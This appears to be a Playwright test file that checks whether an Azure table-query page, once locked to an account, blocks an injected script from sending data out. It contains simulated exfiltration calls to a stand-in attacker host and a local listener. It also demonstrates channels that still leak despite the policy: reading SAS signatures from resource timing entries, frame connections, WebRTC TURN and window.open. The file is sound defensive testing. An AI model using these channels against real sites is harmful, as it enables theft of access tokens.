// The page once it is locked to an account: what could a script that got into it still send, and where? It runs on a host that sends no
// headers of ours, which is the weaker of the two ways in which the page is delivered.
import type { Browser, BrowserContext, Page } from 'playwright/test';
import { recommendedRule } from './rig/corsRules.ts';
import { type BareHost, startBareHost } from './support/bareHost.ts';
import { chooseTable, connectWith, idle, runQuery } from './support/keyscopePage.ts';
import { ATTEMPTS, CHANNELS, MOVES, tryMove } from './support/leakChannels.ts';
import { type LeakListener, startLeakListener } from './support/leakListener.ts';
import { expect, test as base } from './support/scripted.ts';

const EVIL = 'evil.table.core.windows.net';

interface Outside {
  /** Serves the page without headers of ours. */
  readonly host: BareHost;
  readonly listener: LeakListener;
  /** Stands for the Azure table endpoint of an attacker. */
  readonly evil: LeakListener;
  /** In a browser that resolves the attacker's endpoint to the listener on this machine. */
  readonly context: BrowserContext;
}

interface OutsideBrowser extends Pick<Outside, 'listener' | 'evil'> {
  readonly browser: Browser;
}

/**
 * One for the whole file, because starting a browser takes longer than a test. As a fixture of the worker, it would restart every worker.
 */
let outsideBrowser: OutsideBrowser;

const test = base.extend<{ readonly outside: Outside }>({
  outside: async ({ app }, use) => {
    const { browser, listener, evil } = outsideBrowser;
    expect(app.url, 'the build is there').not.toBe('');
    const host = await startBareHost();
    const context = await browser.newContext({ ignoreHTTPSErrors: true });
    for (const one of [listener, evil]) one.clear();
    await use({ host, listener, evil, context });
    await context.close();
    await host.close();
  },
});

test.beforeAll(async ({ playwright, launchOptions }) => {
  const [listener, evil] = await Promise.all([startLeakListener(), startLeakListener(EVIL)]);
  const rule = `--host-resolver-rules=MAP ${EVIL}:443 127.0.0.1:${evil.port}`;
  const browser = await playwright.chromium.launch({
    ...launchOptions,
    args: [...(launchOptions.args ?? []), rule],
  });
  outsideBrowser = { browser, listener, evil };
});

test.afterAll(async () => {
  const { browser, listener, evil } = outsideBrowser;
  await browser.close();
  await Promise.all([listener.close(), evil.close()]);
});

async function tryEveryChannel(page: Page, address: string): Promise<void> {
  for (const attempt of ATTEMPTS) await page.evaluate(attempt, address);
}

function arrived(listener: LeakListener, from: string): readonly string[] {
  return CHANNELS.filter((channel) => listener.paths().includes(`/${from}/${channel}`));
}

test('an injected script gets nothing out, by no channel, to no other host', async ({
  outside: { host, listener, evil, context },
  startScripted,
}) => {
  const { service, proxy } = await startScripted(['Orders'], { cors: [recommendedRule(host.origin)] });
  const here = `http://127.0.0.1:${listener.port}`;
  const page = await context.newPage();
  await page.goto(`${host.origin}/#/query`);
  await idle(page);
  // Before there is a SAS both can be reached, because the page does not know yet which account will be used.
  const reach = (url: string) => page.evaluate((to) => fetch(to).then(String, String), url);
  await reach(`${here}/before/fetch`);
  await reach(`https://${EVIL}/before`);
  expect([listener.paths(), evil.paths()]).toEqual([['/before/fetch'], ['/before']]);

  await connectWith(page, `${proxy.endpoint}?${service.accountSas()}`);
  await tryEveryChannel(page, `${here}/locked`);
  await tryEveryChannel(page, `https://${EVIL}/locked`);
  for (const way of MOVES) {
    await page.evaluate(tryMove, { base: `${here}/204/locked`, way });
    await page.evaluate(tryMove, { base: `${here}/saved/locked`, way });
  }
  // Removing the elements that contain the policies does not open a way either.
  await page.evaluate(() => {
    for (const meta of document.querySelectorAll('meta')) meta.remove();
  });
  await tryEveryChannel(page, `${here}/without-meta`);
  await idle(page);

  // In a page without a policy every channel leaks. By the time these requests arrive, those above would have arrived too.
  const unprotected = await context.newPage();
  await unprotected.goto(`${host.origin}/unprotected.html`);
  await tryEveryChannel(unprotected, `${here}/open`);
  await expect.poll(() => CHANNELS.filter((one) => !arrived(listener, 'open').includes(one))).toEqual([]);
  // Navigation leaks too. An answer of 204 leaves the page as it is, so that the next way can be tried.
  for (const way of MOVES) {
    await unprotected.evaluate(tryMove, { base: `${here}/204/open`, way });
    await expect.poll(listener.paths).toContain(`/204/open/${way}`);
  }
  expect(arrived(listener, 'locked')).toEqual([]);
  expect(arrived(listener, 'without-meta')).toEqual([]);
  expect(listener.paths().filter((path) => !/^\/(?:before|open|204\/open)\//.test(path))).toEqual([]);
  expect(evil.paths()).toEqual(['/before']);

  // The page must still do its job.
  await chooseTable(page, 'Orders');
  expect(await runQuery(page)).toMatch(/^Complete: /);
});

const PLANTED = 3;

/** Runs in the page: adds frames in several places and keeps their `fetch` functions. */
function plantFrames(): void {
  const add = (parent: ParentNode): Window | null => {
    const frame = document.createElement('iframe');
    parent.append(frame);
    return frame.contentWindow;
  };
  // One beside the body, one in it, and one within another frame.
  const outer = add(document.body);
  const inner = outer === null ? null : add(outer.document.body);
  const planted = [add(document.documentElement), outer, inner];
  Reflect.set(
    window,
    'planted',
    planted.map((one) => (one as (Window & typeof globalThis) | null)?.fetch.bind(one)),
  );
}

/** Runs in the page: sends a request with each of these functions. */
function sendThroughPlanted(to: string): void {
  for (const send of Reflect.get(window, 'planted') as readonly (typeof fetch)[]) {
    try {
      send(to).catch(() => undefined);
    } catch {
      // The function of a frame that is gone throws at once.
    }
  }
}

test('a frame that was made before the lock, and so does not have it, is gone; what no policy stops is what the README names as limits', async ({
  outside: { host, listener, evil, context },
  startScripted,
}) => {
  const { service, proxy } = await startScripted(['Orders'], { cors: [recommendedRule(host.origin)] });
  const page = await context.newPage();
  await page.goto(`${host.origin}/#/query`);
  await idle(page);
  await page.evaluate(plantFrames);
  const send = (to: string) => page.evaluate(sendThroughPlanted, `http://127.0.0.1:${listener.port}/${to}`);
  await send('before');
  await expect.poll(() => listener.paths().length).toBe(PLANTED);
  await connectWith(page, `${proxy.endpoint}?${service.accountSas()}`);
  expect(await page.evaluate(() => performance.getEntriesByType('resource').length)).toBe(0);
  await send('locked');
  expect(await page.evaluate(() => window.length)).toBe(0);
  await page.evaluate((to) => fetch(to).catch(() => undefined), `${proxy.endpoint}/Tables`);
  expect(listener.paths().filter((path) => path !== '/before')).toEqual([]);

  // What a script can read: the addresses of later requests.
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(window, 'seenByObserver', seen);
    new PerformanceObserver((list) => {
      for (const { name } of list.getEntries()) seen.push(name);
    }).observe({ type: 'resource' });
  });
  await chooseTable(page, 'Orders');
  await expect
    .poll(() => page.evaluate(() => (Reflect.get(window, 'seenByObserver') as string[]).join(' ')))
    .toContain('sig=');
  // What it can send: a host name, because the browser connects for a frame before it asks the policy; a WebRTC connection; and anything
  // that opens another tab.
  await page.evaluate((src) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src }));
  }, `https://${EVIL}`);
  await expect.poll(evil.connections).toBeGreaterThan(0);
  expect(evil.paths(), 'no more than the connection').toEqual([]);
  const before = listener.connections();
  await page.evaluate(async (port) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'anything', credential: 'x' }],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  }, listener.port);
  await expect.poll(listener.connections).toBeGreaterThan(before);
  const opened = page.waitForEvent('popup');
  await page.evaluate((to) => void window.open(to), `http://127.0.0.1:${listener.port}/opened`);
  await opened;
  await expect.poll(listener.paths).toContain('/opened');
});

test('a page inside another page does not connect and says why', async ({
  outside: { host, context },
  app,
}) => {
  const page = await context.newPage();
  await page.goto(`${host.origin}/around.html`);
  const inner = page.frameLocator('iframe');
  await inner.getByRole('button', { name: 'Connection', exact: true }).click();
  const dialog = inner.getByRole('dialog');
  await expect(dialog.getByRole('alert')).toContainText(
    'does not connect while it is shown inside another page',
  );
  await expect(dialog.getByRole('link', { name: 'Open in a new tab' })).toBeVisible();
  await expect(dialog.getByRole('textbox')).toHaveCount(0);
  await expect(dialog.getByRole('button', { name: /Connect/ })).toHaveCount(0);
  // If the host sends headers, the page is not even shown in a frame.
  await page.evaluate((url) => {
    const frame = document.createElement('iframe');
    frame.id = 'with-headers';
    frame.src = url;
    const shown = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    return shown.then(() => undefined);
  }, app.url);
  await expect(page.frameLocator('#with-headers').getByRole('button', { name: 'Connection' })).toHaveCount(0);
});

// No second try, since a leak that happens only sometimes must fail too. In one worker, so that only one more browser is started.
test.describe.configure({ mode: 'default', retries: 0 });
